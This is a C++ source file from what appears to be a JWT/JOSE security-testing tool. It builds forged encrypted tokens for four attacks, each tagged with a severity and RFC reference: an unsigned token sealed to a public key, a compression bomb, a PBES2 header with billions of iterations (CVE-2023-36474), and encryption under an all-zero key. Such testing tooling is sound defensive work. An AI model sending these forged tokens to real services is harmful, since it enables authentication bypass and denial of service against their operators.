// SPDX-FileCopyrightText: Claimsmith developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "base/base64.h"
#include "document/json.h"
#include "jose/encrypt.h"
#include "jose/forge/groups.h"
#include "jose/forge/subject.h"

#include <array>

namespace claimsmith::jose::forge {
namespace {

using document::Object;

void add(std::vector<Forgery>& list, std::string label, const Object& header, std::string_view plaintext,
         const Key& key)
{
    if (auto token = encryptCompact(header, plaintext, key))
        list.push_back({std::move(label), std::move(token).value()});
}

/// Words about a key say what it is for; an attacker does not care.
Key unbound(const Key& key)
{
    return key.publicPart().value_or(key).withMetadata({});
}

Object headerFor(const Key& key)
{
    const std::vector<KeyManagement> fitting = keyManagementsFor(key);
    return fitting.empty() ? Object() : Object{{"alg", toString(fitting.front())}, {"enc", "A128GCM"}, {"cty", "JWT"}};
}

/// The content is confidential, and from anybody: encrypting to a public key signs nothing.
std::vector<Forgery> unsignedInside(const Subject& subject, const Knowledge& knowledge)
{
    std::vector<Forgery> list;
    const std::string inner = compact(subject.headerWith({{"alg", "none"}}), subject.freshPayload(), "");
    for (const Key& key : knowledge.publicKeys) {
        const Key open = unbound(key);
        Object header = headerFor(open);
        if (header.empty() || key.secret() != nullptr)
            continue;
        add(list, "an unsigned token inside", header, inner, open);
        header.remove("cty");
        add(list, "bare claims inside", header, subject.freshPayload(), open);
    }
    return list;
}

std::vector<Forgery> expanding(const Subject&, const Knowledge& knowledge)
{
    std::vector<Forgery> list;
    constexpr std::size_t size = 4U << 20;
    for (const Key& key : knowledge.publicKeys) {
        const Key open = unbound(key);
        Object header = headerFor(open);
        if (header.empty() || key.secret() != nullptr)
            continue;
        header.append("zip", "DEF");
        add(list, "4 MiB of the same letter", header, std::string(size, 'a'), open);
    }
    return list;
}

/// PBES2 with as many iterations as a number holds (CVE-2023-36474 and its kin). The token is made without the work:
/// nobody gets as far as finding out that nothing in it fits.
std::vector<Forgery> iterations(const Subject&, const Knowledge&)
{
    std::vector<Forgery> list;
    for (const char* count : {"2147483647", "1e12"}) {
        const std::string header =
            R"({"alg":"PBES2-HS512+A256KW","enc":"A128GCM","p2s":"AAAAAAAAAAAAAAAA","p2c":)" + std::string(count) + "}";
        list.push_back({count, toBase64Url(header) + '.' + toBase64Url(Bytes(24, '\0')) + '.' +
                                   toBase64Url(Bytes(12, '\0')) + '.' + toBase64Url("x") + '.' +
                                   toBase64Url(Bytes(16, '\0'))});
    }
    return list;
}

std::vector<Forgery> directWithPublicText(const Subject& subject, const Knowledge&)
{
    std::vector<Forgery> list;
    const Key zeros = Key::fromSecret(SecretBytes(Bytes(16, '\0')));
    add(list, "keyed with zeros", Object{{"alg", "dir"}, {"enc", "A128GCM"}, {"cty", "JWT"}}, subject.token(), zeros);
    return list;
}

constexpr auto error = LintSeverity::Error;

constexpr std::array<Variant, 4> list{{
    {"jwe-unsigned", "encryption", "Encrypted, but not signed", "A token passes because it could be decrypted.", error,
     "RFC 8725 §3.3", false, &unsignedInside},
    {"jwe-zip-bomb", "encryption", "Compressed content that expands",
     "Nothing bounds what a small token becomes in memory.", LintSeverity::Warning, "RFC 8725 §3.6", false, &expanding},
    {"jwe-iterations", "encryption", "Two billion iterations", "The token says how long the verifier has to compute.",
     LintSeverity::Warning, "RFC 7518 §4.8.1.2", false, &iterations},
    {"jwe-zero-key", "encryption", "Encrypted with a key of zeros", "A key that was not found became one of zeros.",
     error, "RFC 7518 §4.5", false, &directWithPublicText},
}};

} // namespace

std::span<const Variant> encryptedVariants()
{
    return list;
}

} // namespace claimsmith::jose::forge
